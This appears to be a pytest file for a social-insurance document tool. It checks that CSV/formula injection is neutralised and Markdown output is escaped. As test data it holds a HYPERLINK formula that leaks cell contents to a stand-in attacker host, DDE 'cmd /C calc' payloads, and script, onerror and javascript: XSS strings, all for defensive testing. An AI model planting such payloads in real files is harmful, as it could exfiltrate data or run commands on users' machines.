"""Outputs that cannot carry code (issue 10, point 2).

Names read from documents, case.yaml fields and file names come out in XLSX cells, CSV
tables and Markdown drafts. A text starting a formula (``= + - @``, control characters) is
written with a leading ``'`` and kept as text (OWASP CSV-injection rule); Markdown shows
``<script>`` and links as text. Each case failed before :mod:`shebao.cells`.
"""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import pytest
from openpyxl import load_workbook

from shebao.cells import markdown_text, neutral
from shebao.cli import main

DEMO = Path(__file__).resolve().parents[2] / "samples" / "demo"
ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"点此")', "+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
           "＝1+1"]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_starts_are_neutralised(text):
    assert neutral(text) == "'" + text


@pytest.mark.parametrize("value", ["张三", "-", "--", " - ", 12.5, -3, None, "", "2025-06",
                                   "a=b"])
def test_ordinary_values_unchanged(value):
    assert neutral(value) == value


def test_draft_xlsx_cells_are_text_not_formulas():
    from shebao.reports.xlsx_writer import html_to_xlsx

    rows = "".join(f"<tr><td>{a.replace('&', '&amp;').replace('<', '&lt;')}</td><td>1,234.50"
                   "</td></tr>" for a in ATTACKS)
    html = f"<h1>=1+1</h1><p>@note</p><table><tr><th>=姓名</th><th>金额</th></tr>{rows}</table>"
    book = load_workbook(io.BytesIO(html_to_xlsx(html, "=title")))
    cells = [c for ws in book for row in ws.iter_rows() for c in row if c.value is not None]
    assert cells
    for c in cells:
        assert c.data_type != "f", (c.coordinate, c.value)
        if isinstance(c.value, str):
            assert c.value[0] not in "=+-@\t\r＝", c.value
    amounts = [c.value for c in cells if isinstance(c.value, float)]
    assert amounts == [1234.5] * len(ATTACKS)  # numbers stay numbers


def test_factory_summary_xlsx_cells_are_text(tmp_path):
    from shebao.batch.write import write_xlsx

    worker = {"no": 1, "name": ATTACKS[0], "id_masked": "430***********0027",
              "staff_id": ATTACKS[1], "documents": ["=a.pdf"], "months_covered": 1,
              "minimum_base_months": [], "underreported_months": [], "missing_months": [],
              "withheld_months": [], "provisional_account_risk": False, "months_short": 0,
              "statutory_retirement_month": ATTACKS[2],
              "arrears": {p: 0.0 for p in ("employer", "personal", "late_fee", "employer_known",
                                           "personal_known", "late_fee_known")}}
    total = {"known": 0.0, "complete": True}
    summary = {"as_of": "2025-10-15", "workers": [worker],
               "totals": {"workers": 1, "provisional_workers": 0, "short_workers": 0,
                          "employer": total, "personal": total, "late_fee": total},
               "failed": [{"file": ATTACKS[3], "zh": "@x", "en": "=y"}],
               "roster": {"without_documents": [{"no": 2, "name": ATTACKS[4],
                                                 "staff_id": None, "id_masked": None}]}}
    path = tmp_path / "s.xlsx"
    write_xlsx(path, summary)
    book = load_workbook(path)
    for ws in book:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
    assert book["工人明细"]["B3"].value == "'" + ATTACKS[0]


def test_extract_csv_file_column_neutralised(tmp_path, capsys):
    name = "=HYPERLINK(1)+cmd.pdf"
    shutil.copy(DEMO / "A_L3_pension_ranges.pdf", tmp_path / name)
    assert main(["extract", str(tmp_path / name), "--csv"]) == 0
    out = capsys.readouterr().out
    rows = list(csv.reader(io.StringIO(out)))
    files = {r[rows[0].index("file")] for r in rows[1:] if r and "file" in rows[0]}
    assert files and all(f.startswith("'=") or not f.startswith("=") for f in files)
    assert not any(cell.startswith(("=", "+", "@")) for r in rows for cell in r)


def test_markdown_shows_tags_and_links_as_text():
    from shebao.reports.markdown_writer import html_to_markdown

    html = ("<h1>投诉书</h1><p>申请人：&lt;script&gt;alert(1)&lt;/script&gt;"
            "&lt;img src=x onerror=alert(2)&gt; [点我](javascript:alert(3))</p>"
            "<table><tr><th>姓名</th></tr><tr><td>&lt;b&gt;张三|李四&lt;/b&gt;</td></tr></table>")
    md = html_to_markdown(html)
    assert "<script>" not in md and "<img" not in md and "<b>" not in md
    assert "&lt;script&gt;" in md and "\\[点我\\](javascript:alert(3))" in md
    assert "张三\\|李四" in md


def test_markdown_text_escapes():
    assert markdown_text("<a href=x>*_`|&") == "&lt;a href=x&gt;*_\\`\\|&amp;"
    assert markdown_text("430***********0027") == "430***********0027"
